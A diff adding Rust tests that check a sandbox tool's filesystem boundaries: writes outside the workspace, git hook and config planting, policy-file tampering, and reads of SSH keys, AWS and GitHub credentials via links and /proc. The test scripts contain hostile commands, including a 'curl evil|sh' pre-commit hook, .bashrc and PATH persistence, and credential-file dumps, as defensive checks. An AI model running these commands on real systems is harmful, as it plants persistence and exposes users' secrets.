@@ -1,0 +1,177 @@
+//! Filesystem threats: writing outside the workspace, planting persistence in .git or the
+//! policy file, reading secrets (directly, through links, through /proc).
+
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::process::Command;
+
+use crate::util::{exists, is_root, Env, SECRET};
+
+#[test]
+fn writes_land_only_in_the_workspace() {
+    let e = Env::new("write-boundary");
+    let tag = format!("cordon-attack-{}", std::process::id());
+    let script = format!(
+        "echo inside > made-here; \
+         echo pwned >> {home}/.bashrc; mkdir -p {home}/.local/bin && echo x > {home}/.local/bin/git; \
+         echo x > {out}/planted; echo x > /etc/{tag}; echo x > /usr/local/bin/{tag}; \
+         echo x > {root}/sibling-{tag}; true",
+        home = e.home.display(),
+        out = e.outside.display(),
+        root = e.root.display(),
+    );
+    e.sh(&[], &script).ok();
+    assert_eq!(fs::read_to_string(e.ws.join("made-here")).unwrap(), "inside\n");
+    assert_eq!(fs::read_to_string(e.home.join(".bashrc")).unwrap(), "# original\n");
+    for p in [
+        e.home.join(".local/bin/git"),
+        e.outside.join("planted"),
+        format!("/etc/{tag}").into(),
+        format!("/usr/local/bin/{tag}").into(),
+        e.root.join(format!("sibling-{tag}")),
+    ] {
+        assert!(!exists(&p), "{} was written from inside the sandbox", p.display());
+    }
+}
+
+#[test]
+fn tmp_dirs_are_private_empty_and_vanish() {
+    let e = Env::new("private-tmp");
+    let tag = format!("cordon-tmp-{}", std::process::id());
+    fs::write(format!("/tmp/{tag}-host"), "host").unwrap();
+    let run = e
+        .sh(&[], &format!("ls -A /tmp /var/tmp /dev/shm; for d in /tmp /var/tmp /dev/shm; do echo x > $d/{tag}; done; cat /tmp/{tag}"))
+        .ok();
+    assert!(!run.stdout.contains(&format!("{tag}-host")), "host /tmp visible: {}", run.stdout);
+    assert!(run.stdout.contains('x'), "private /tmp not writable: {}", run.stderr);
+    for d in ["/tmp", "/var/tmp", "/dev/shm"] {
+        assert!(!exists(&std::path::Path::new(d).join(&tag)), "{d} write reached the host");
+    }
+    let _ = fs::remove_file(format!("/tmp/{tag}-host"));
+}
+
+#[test]
+fn files_made_inside_keep_the_callers_ids() {
+    let e = Env::new("ids");
+    e.sh(&[], "echo x > owned; mkdir d").ok();
+    let m = fs::metadata(e.ws.join("owned")).unwrap();
+    assert_eq!(m.uid(), nix::unistd::getuid().as_raw());
+    assert_eq!(m.gid(), nix::unistd::getgid().as_raw());
+}
+
+#[test]
+fn allow_write_opens_exactly_that_path() {
+    let e = Env::new("allow-write");
+    let cache = e.outside.join("cache");
+    fs::create_dir(&cache).unwrap();
+    let script = format!("echo y > {}/ok; echo y > {}/no", cache.display(), e.outside.display());
+    e.sh(&["--allow-write", cache.to_str().unwrap()], &script);
+    assert!(exists(&cache.join("ok")), "--allow-write path not writable");
+    assert!(!exists(&e.outside.join("no")), "sibling of --allow-write path was writable");
+}
+
+#[test]
+fn git_metadata_cannot_be_planted_or_swapped() {
+    let e = Env::with_git("git-protect");
+    fs::remove_dir_all(e.ws.join(".git/hooks")).unwrap();
+    let config_before = fs::read(e.ws.join(".git/config")).unwrap();
+    let script = "mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit; \
+        printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config; \
+        echo x > .git/info/attributes; echo ../evil > .git/commondir; \
+        echo x > .git/config.worktree; printf '[network]\\nmode=\"full\"\\n' > .cordon.toml; \
+        mv .git .git-old; mv .git/config .git/config2; true";
+    e.sh(&[], script).ok();
+    assert!(!exists(&e.ws.join(".git/hooks/pre-commit")), "hook planted");
+    assert!(!exists(&e.ws.join(".git/hooks")), "placeholder for absent hooks left behind");
+    assert_eq!(fs::read(e.ws.join(".git/config")).unwrap(), config_before, ".git/config changed");
+    assert!(!exists(&e.ws.join(".git/info/attributes")));
+    assert!(!exists(&e.ws.join(".git/commondir")), "commondir planted or placeholder left");
+    assert!(!exists(&e.ws.join(".git/config.worktree")));
+    assert!(!exists(&e.ws.join(".cordon.toml")), "policy file created");
+    assert!(!exists(&e.ws.join(".git-old")), ".git renamed");
+    assert!(e.ws.join(".git/HEAD").is_file());
+}
+
+#[test]
+fn a_workspace_without_git_cannot_get_one_planted() {
+    let e = Env::new("no-git");
+    e.sh(&[], "mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout; true").ok();
+    assert!(!exists(&e.ws.join(".git")), "a .git was planted");
+}
+
+#[test]
+fn linked_worktree_commits_but_cannot_touch_main_hooks() {
+    let e = Env::with_git("worktree");
+    let wt = e.root.join("wt");
+    e.git(&["worktree", "add", "-q", wt.to_str().unwrap()]);
+    let main_git = e.ws.join(".git");
+    let script = format!(
+        "echo change > file && git add file && git -c user.email=t@t -c user.name=t commit -qm wt-commit && \
+         (echo evil > {g}/hooks/pre-commit; echo evil >> {g}/config; echo evil > .git; true)",
+        g = main_git.display()
+    );
+    let mut argv: Vec<&std::ffi::OsStr> = vec!["run".as_ref(), "-w".as_ref(), wt.as_os_str(), "--".as_ref()];
+    argv.extend(["sh".as_ref(), "-c".as_ref(), std::ffi::OsStr::new(&script)]);
+    let mut cmd = e.command(&argv);
+    cmd.current_dir(&wt);
+    let run = crate::util::Run::from(cmd.output().unwrap());
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let log = Command::new("git").args(["log", "--oneline", "-1"]).current_dir(&wt).output().unwrap();
+    assert!(String::from_utf8_lossy(&log.stdout).contains("wt-commit"), "worktree commit failed: {}", run.stderr);
+    assert!(!exists(&main_git.join("hooks/pre-commit")), "main repo hook planted from worktree");
+    assert!(!fs::read_to_string(main_git.join("config")).unwrap().contains("evil"));
+    assert!(fs::read_to_string(wt.join(".git")).unwrap().starts_with("gitdir:"));
+}
+
+#[test]
+fn secrets_are_unreadable_directly_and_through_links() {
+    let e = Env::new("read-boundary");
+    std::os::unix::fs::symlink(e.home.join(".ssh/id_rsa"), e.ws.join("link")).unwrap();
+    std::os::unix::fs::symlink(e.home.join(".aws"), e.ws.join("dirlink")).unwrap();
+    let script = format!(
+        "cat {h}/.ssh/id_rsa {h}/.aws/credentials {h}/.config/gh/hosts.yml {h}/.netrc; cat link dirlink/credentials; \
+         ln {h}/.ssh/id_rsa hard 2>/dev/null && cat hard; cat /proc/1/root{h}/.ssh/id_rsa /proc/self/root{h}/.netrc; \
+         tar cf - {h} 2>/dev/null | strings; grep -r . {h} 2>/dev/null; true",
+        h = e.home.display()
+    );
+    let run = e.sh(&[], &script).ok();
+    assert!(!run.stdout.contains(SECRET), "secret leaked:\n{}", run.stdout);
+    assert_eq!(fs::read_to_string(e.home.join(".ssh/id_rsa")).unwrap(), SECRET, "host secret damaged");
+}
+
+#[test]
+fn deny_read_flag_hides_more() {
+    let e = Env::new("deny-read");
+    // In the workspace, so the control run below can see it (the host's /tmp is not visible).
+    let extra = e.ws.join("private.txt");
+    fs::write(&extra, SECRET).unwrap();
+    let run = e.sh(&["--deny-read", extra.to_str().unwrap()], &format!("cat {}; true", extra.display())).ok();
+    assert!(!run.stdout.contains(SECRET));
+    let run = e.sh(&[], &format!("cat {}", extra.display())).ok();
+    assert!(run.stdout.contains(SECRET), "control: readable without --deny-read");
+}
+
+#[test]
+fn raw_disks_are_not_in_the_sandbox() {
+    let e = Env::new("dev");
+    let run = e.sh(&[], "ls /dev").ok();
+    for absent in ["sda", "vda", "nvme0n1", "mem", "kmsg"] {
+        assert!(!run.stdout.lines().any(|l| l == absent), "/dev/{absent} visible");
+    }
+    assert!(run.stdout.lines().any(|l| l == "null"));
+}
+
+#[test]
+fn root_caller_gains_nothing_from_uid_zero() {
+    let e = Env::new("root");
+    if !is_root() {
+        // As a user, DAC already stops writes to /etc; the write-boundary test covers it.
+        println!("note: root-only case, running as a user: checked by the write-boundary test");
+        return;
+    }
+    let run = e.sh(&[], "echo x > /etc/cordon-root-test; chmod 777 /etc; true").ok();
+    assert!(!exists(std::path::Path::new("/etc/cordon-root-test")));
+    let mode = fs::metadata("/etc").unwrap().mode() & 0o777;
+    assert_eq!(mode, 0o755);
+    let _ = run;
+}
